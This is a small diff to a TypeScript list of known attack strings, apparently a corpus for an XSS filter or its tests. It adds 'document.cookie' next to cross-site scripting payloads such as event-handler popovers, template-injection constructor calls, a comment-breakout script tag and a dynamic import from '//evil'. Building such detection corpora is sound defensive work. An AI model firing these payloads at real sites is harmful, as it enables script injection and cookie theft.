@@ -145,6 +145,7 @@ export const knownAttacks: Readonly<Record<AttackClass, readonly string[]>> = {
     '<button popovertarget=x>X</button><input type=hidden popover id=x onbeforetoggle=alert(1)>',
     "{{constructor.constructor('alert(1)')()}}",
     "setTimeout('alert(1)')",
+    'document.cookie',
     "self['ale'+'rt'](1)",
     '<!--><script>alert(1)</script>',
     "import('//evil')",
